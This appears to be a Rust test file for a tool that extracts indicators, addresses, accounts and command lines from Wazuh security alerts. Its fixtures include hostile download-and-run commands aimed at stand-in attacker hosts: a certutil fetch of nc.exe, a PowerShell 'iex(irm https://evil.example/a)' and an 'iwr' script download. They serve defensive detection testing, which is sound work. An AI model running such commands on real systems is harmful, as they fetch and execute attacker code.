//! Fields whose meaning depends on who wrote them, or on what is in them.

use serde_json::{Value, json};
use wazuh_model::UserPart;

use super::{MD5, SHA256, alert, expect, indicators_of};

#[test]
fn short_names_are_ends_only_where_they_hold_addresses() {
    for data in [
        json!({"src": "203.0.113.9", "dst": "203.0.113.66"}),
        json!({"event": {"src": "203.0.113.9", "dst": "203.0.113.66"}}),
    ] {
        expect(
            &json!({ "data": data }),
            &[("ip-src", "203.0.113.9"), ("ip-dst", "203.0.113.66")],
        );
    }
    let notice = alert(&json!({"data": {"note": "Scan::Port_Scan", "src": "203.0.113.9", "dst": "10.0.0.5"}}));
    let actors = notice.actors();
    assert_eq!(actors.sources[0].ip.as_deref(), Some("203.0.113.9"));
    assert_eq!(actors.destinations[0].ip.as_deref(), Some("10.0.0.5"));
    for other in [
        json!({"src": "inside", "dst": "outside"}),
        json!({"src": "http://shop.test-org.com/a.js", "dst": "/srv/8.8.4.4/x"}),
        json!({"src": "inside:8.8.4.4/443", "dst": "8.8.4.4.example"}),
        json!({"dst_src": "8.8.4.4", "source": "8.8.4.4"}),
    ] {
        let value = json!({ "data": other });
        expect(&value, &[]);
        let alert = alert(&value);
        assert!(
            alert.actors().sources.is_empty() && alert.actors().destinations.is_empty(),
            "{value}"
        );
    }
    expect(&json!({"rule": {"src": "8.8.4.4"}, "agent": {"dst": "8.8.4.4"}}), &[]);
    // Whatever else stands there still tells alerts apart.
    let key = |interface: &str| {
        let value = json!({"rule": {"id": "1"}, "agent": {"id": "1"}, "data": {"src": interface, "x": "y"}});
        alert(&value).fingerprint().key
    };
    assert_ne!(key("inside"), key("outside"));
}

#[test]
fn fields_of_fortigate_and_yara_are_what_they_hold() {
    expect(
        &json!({"data": {"srcip": "10.0.0.50", "dstip": "10.0.0.3", "qname": "c2.evil.example", "ipaddr": "203.0.113.66"}}),
        &[("domain", "c2.evil.example"), ("ip-any", "203.0.113.66")],
    );
    expect(&json!({"data": {"analyticscksum": SHA256}}), &[("sha256", SHA256)]);
    expect(&json!({"data": {"remip": "203.0.113.9"}}), &[("ip-src", "203.0.113.9")]);
    let found = alert(&json!({"data": {"yara_rule": "x", "yara_scanned_file": "/tmp/x.bin"}}));
    assert_eq!(found.actors().files, ["/tmp/x.bin"]);
    expect(
        &json!({"data": {"qname": "dc01.corp.local", "analyticscksum": "x"}}),
        &[],
    );
}

#[test]
fn a_decoder_may_put_a_file_or_a_name_where_others_have_a_url() {
    let of = |decoder: &str, data: Value| json!({"decoder": {"name": decoder}, "data": data});
    let infected = of(
        "clamd",
        json!({"url": "/home/bob/a.exe", "extra_data": "Win.Trojan.X", "id": MD5}),
    );
    expect(&infected, &[("md5", MD5)]);
    let infected = alert(&infected);
    let actors = infected.actors();
    assert_eq!(
        (actors.files.as_slice(), actors.urls.len()),
        (&["/home/bob/a.exe".into()][..], 0)
    );
    expect(&of("clamd", json!({"url": "/home/bob/a.exe", "id": "393"})), &[]);
    expect(
        &of("unbound", json!({"srcip": "10.0.0.50", "url": "c2.evil.example"})),
        &[("domain", "c2.evil.example")],
    );
    // Elsewhere an id is none, and a URL is one.
    let asked = of("web-accesslog", json!({"url": "/home/bob/a.exe", "id": MD5}));
    expect(&asked, &[]);
    assert_eq!(alert(&asked).actors().urls, ["/home/bob/a.exe"]);
    expect(&of("web-accesslog", json!({"url": "c2.evil.example"})), &[]);
}

const REMOTE_DESKTOP: &str = "Microsoft-Windows-TerminalServices-RemoteConnectionManager";

#[test]
fn only_remote_desktop_has_an_account_in_its_first_value() {
    let event = |provider: &str, id: &str| {
        let value = json!({"data": {"win": {"system": {"providerName": provider, "eventID": id},
            "eventXML": {"param1": "administrator", "param2": "CORP", "param3": "203.0.113.9"}}}});
        let alert = alert(&value);
        let actors = alert.actors();
        let users = actors.users.iter().map(|user| (user.name.to_string(), user.part));
        (users.collect::<Vec<_>>(), actors.sources.len())
    };
    assert_eq!(
        event(REMOTE_DESKTOP, "1149"),
        (vec![("administrator".to_owned(), UserPart::Target)], 1)
    );
    assert_eq!(event("Microsoft-Windows-Other", "1149"), (vec![], 1));
    // There it is an address, or the name of a server.
    for other in ["1158", "20499"] {
        assert_eq!(event(REMOTE_DESKTOP, other), (vec![], 1));
    }
}

#[test]
fn the_commands_of_defenders_list_are_looked_through() {
    let found = |list: &str| {
        json!({"data": {"win": {"system": {"providerName": "Microsoft-Windows-Windows Defender", "eventID": "1116"},
            "eventdata": {"path": list, "threat Name": "Trojan:Win32/X"}}}})
    };
    let fetched = found(
        "CmdLine:_C:\\\\Windows\\\\System32\\\\certutil.exe -urlcache -f http://203.0.113.66/nc.exe C:\\\\Users\\\\Public\\\\nc.exe",
    );
    expect(
        &fetched,
        &[("ip-dst", "203.0.113.66"), ("url", "http://203.0.113.66/nc.exe")],
    );
    let fetched = alert(&fetched);
    let actors = fetched.actors();
    assert_eq!(
        actors.process.unwrap().command_line.as_deref(),
        Some(r"C:\Windows\System32\certutil.exe -urlcache -f http://203.0.113.66/nc.exe C:\Users\Public\nc.exe")
    );
    assert_eq!((actors.files.len(), actors.urls.len()), (0, 1));
    let both =
        found("CmdLine:_C:\\\\p.exe -c cd C:\\\\x; iex(irm https://evil.example/a); file:_C:\\\\Users\\\\eva\\\\a.ps1");
    expect(&both, &[("domain", "evil.example"), ("url", "https://evil.example/a")]);
    let both = alert(&both);
    let actors = both.actors();
    assert_eq!(actors.files, [r"C:\Users\eva\a.ps1"]);
    assert_eq!(
        actors.process.unwrap().command_line.as_deref(),
        Some(r"C:\p.exe -c cd C:\x; iex(irm https://evil.example/a)")
    );
    // What was found and which command it was tell alerts apart.
    let key = |list: &str| alert(&found(list)).fingerprint().key;
    assert_ne!(key("CmdLine:_C:\\\\p.exe -c a"), key("CmdLine:_C:\\\\p.exe -c b"));
    // What is neither stands as it is.
    let running = alert(&found("process:_pid:4692,ProcessStart:1"));
    assert_eq!(running.actors().files, ["process:_pid:4692,ProcessStart:1"]);
}

#[test]
fn each_address_of_a_list_is_an_end() {
    let ends = |value: &Value| {
        let alert = alert(value);
        let actors = alert.actors();
        let ends = actors.sources.iter().chain(&actors.destinations);
        ends.map(|end| (end.ip.as_deref().unwrap_or_default().to_owned(), end.port))
            .collect::<Vec<_>>()
    };
    let two = || vec![("203.0.113.9".to_owned(), None), ("10.0.0.1".to_owned(), None)];
    for value in [
        json!({"data": {"sourceIPs": ["203.0.113.9", "10.0.0.1"], "user": {"username": "system:anonymous"}}}),
        json!({"data": {"clientip": "203.0.113.9, 10.0.0.1"}}),
        json!({"data": {"srcip": "203.0.113.9,10.0.0.1"}}),
        json!({"data": {"clientip": "203.0.113.9:50123, 10.0.0.1:80"}}),
        json!({"source": {"ip": ["203.0.113.9", "10.0.0.1"]}}),
        json!({"destination": {"ip": ["203.0.113.9", "10.0.0.1"]}}),
    ] {
        assert_eq!(ends(&value), two(), "{value}");
    }
    for value in [
        json!({"related": {"ip": ["203.0.113.9", "10.0.0.1"]}}),
        json!({"data": {"win": {"eventdata": {"queryResults": "::ffff:203.0.113.9;10.0.0.1;"}}}}),
    ] {
        assert_eq!(ends(&value), [], "{value}");
    }
    let behind_a_proxy = json!({"data": {"clientip": "203.0.113.9, unknown"}});
    assert_eq!(ends(&behind_a_proxy), [("203.0.113.9".to_owned(), None)]);
    // It is news when another one is among them.
    let news = |second: &str| {
        let value =
            json!({"rule": {"id": "1"}, "agent": {"id": "1"}, "data": {"clientip": ["203.0.113.9", second], "x": "y"}});
        alert(&value).fingerprint().distinct
    };
    assert_ne!(news("10.0.0.1"), news("10.0.0.2"));
}

#[test]
fn what_stands_for_no_value_is_none() {
    for nothing in ["N/A", "n/a", "(none)", "-", ""] {
        let value = json!({"data": {"user": nothing, "dst_host": nothing, "action": "tunnel-up", "file": nothing}});
        let alert = alert(&value);
        let actors = alert.actors();
        assert!(
            actors.users.is_empty()
                && actors.domains.is_empty()
                && actors.files.is_empty()
                && actors.destinations.is_empty(),
            "{value}"
        );
    }
    let named = alert(&json!({"data": {"user": "none"}}));
    assert_eq!(named.actors().users[0].name, "none");
}

#[test]
fn the_domain_of_an_account_in_evidence_is_no_name_of_the_internet() {
    let evidence = |account: &str| {
        json!({"data": {"ms-graph": {"evidence": [{"deviceDnsName": "ws-1.corp.test-org.com"},
            {account: {"userPrincipalName": "eva", "domainName": "corp.test-org.com"}}]}}})
    };
    for account in ["userAccount", "loggedOnUsers"] {
        expect(&evidence(account), &[]);
        let alert = alert(&evidence(account));
        assert_eq!(alert.actors().users[0].domain.as_deref(), Some("corp.test-org.com"));
    }
    let seen = json!({"data": {"ms-graph": {"evidence": [{"domainName": "evil.example"}]}}});
    expect(&seen, &[("domain", "evil.example")]);
}

#[test]
fn the_machine_of_a_sensor_is_no_end_of_a_connection() {
    let detected = |name: &str| json!({"data": {"event": {"ComputerName": "WS-1", name: "8.8.4.4"}}});
    expect(&detected("LocalIP"), &[]);
    assert!(alert(&detected("LocalIP")).actors().destinations.is_empty());
    assert_eq!(indicators_of(&detected("RemoteIP")), [("ip-src", "8.8.4.4".to_owned())]);
}

#[test]
fn a_line_of_a_failed_log_on_with_one_foreign_address_tells_whose_it_was() {
    let of = |line: &str, group: &str| json!({"rule": {"groups": ["syslog", group]}, "agent": {"id": "001", "name": "x", "ip": "8.8.4.4"}, "full_log": line});
    let failed = "authentication_failed";
    for (line, group) in [
        (
            "Access denied for user 'root'@'203.0.113.9' (using password: YES)",
            "mysql_log",
        ),
        (
            "[2026-11-29 14:59:00.000 CET] 203.0.113.9(40000) postgres@prod FATAL:  password authentication failed for user \"postgres\"",
            "postgresql_log",
        ),
        (
            "2017-01-23 03:44:14 dovecot_login authenticator failed for (hydra) [203.0.113.9]:35686: 535 Incorrect (set_id=user)",
            "exim",
        ),
        ("fail2ban.actions [700]: NOTICE [sshd] Ban 203.0.113.9", "fail2ban"),
        (
            "date=2016-06-17 user=\"root\" ui=ssh(203.0.113.9) action=login status=failed",
            failed,
        ),
        (
            "asa01 : %ASA-6-113015: AAA user Rejected : reason = Invalid : server = 10.0.0.3 : user = x : user IP = 203.0.113.9",
            failed,
        ),
        (
            "hostd[2099] [Originator@6876] Event 77 : Cannot login root@203.0.113.9",
            "vmware",
        ),
        (
            "x: login of root at 8.8.4.4 by 203.0.113.9, 203.0.113.9 refused",
            failed,
        ),
    ] {
        let value = of(line, group);
        expect(&value, &[("ip-any", "203.0.113.9")]);
        let alert = alert(&value);
        let sources = alert.actors().sources;
        assert_eq!(
            (sources.len(), sources[0].ip.as_deref()),
            (1, Some("203.0.113.9")),
            "{line}"
        );
    }
    for (line, group) in [
        // Which of two it was nothing says, and whose the machine's own is everybody knows.
        ("login of root failed: 203.0.113.9 at 203.0.113.10", failed),
        ("login of root at 8.8.4.4 failed", failed),
        ("login of root failed: 10.0.0.9", failed),
        ("client version 8.1.2.3: login failed", failed),
        ("fail2ban.actions [700]: NOTICE [sshd] Unban 203.0.113.9", "fail2ban"),
        // Lines of other kinds hold addresses and numbers of all kinds.
        ("status installed libfoo:amd64 2.3.1.4", "dpkg"),
        ("chronyd[1]: Selected source 162.159.200.1", "syslog"),
        ("named[1]: resolver priming query complete 198.41.0.4", "named"),
        (
            "{\"msg\": \"authentication failed for x\", \"ip\": \"203.0.113.9\"}",
            failed,
        ),
    ] {
        let value = of(line, group);
        expect(&value, &[]);
        assert!(alert(&value).actors().sources.is_empty(), "{line}");
    }
    // What a field says comes first.
    let mut named = of("login failed: 203.0.113.9", failed);
    named["data"] = json!({"dstip": "10.0.0.5"});
    expect(&named, &[]);
}

#[test]
fn the_client_of_sql_server_and_what_powershell_ran_are_read_out_of_their_one_value() {
    let event = |provider: &str, data: &str| json!({"data": {"win": {"system": {"providerName": provider, "eventID": "18456"}, "eventdata": {"data": data}}}});
    let login = "x [CLIENT: 8.8.8.8], Reason: Password did not match.,  [CLIENT: 203.0.113.9]";
    for provider in ["MSSQLSERVER", "MSSQL$PROD"] {
        let value = event(provider, login);
        expect(&value, &[("ip-src", "203.0.113.9")]);
        assert_eq!(alert(&value).actors().sources[0].ip.as_deref(), Some("203.0.113.9"));
    }
    let ran = "NewEngineState=Available HostVersion=5.1.2.3 HostApplication=powershell -c iwr http://203.0.113.66/x.ps1 EngineVersion=5.1.2.4";
    let value = event("PowerShell", ran);
    expect(
        &value,
        &[("ip-dst", "203.0.113.66"), ("url", "http://203.0.113.66/x.ps1")],
    );
    assert_eq!(alert(&value).actors().urls, ["http://203.0.113.66/x.ps1"]);
    for (provider, data) in [
        ("MSSQLSERVER", "sa, Reason: x, [CLIENT: <local machine>]"),
        ("MSSQLSERVER", "8.8.8.8 http://8.8.8.8/"),
        ("Other", login),
        ("Other", ran),
    ] {
        expect(&event(provider, data), &[]);
    }
}
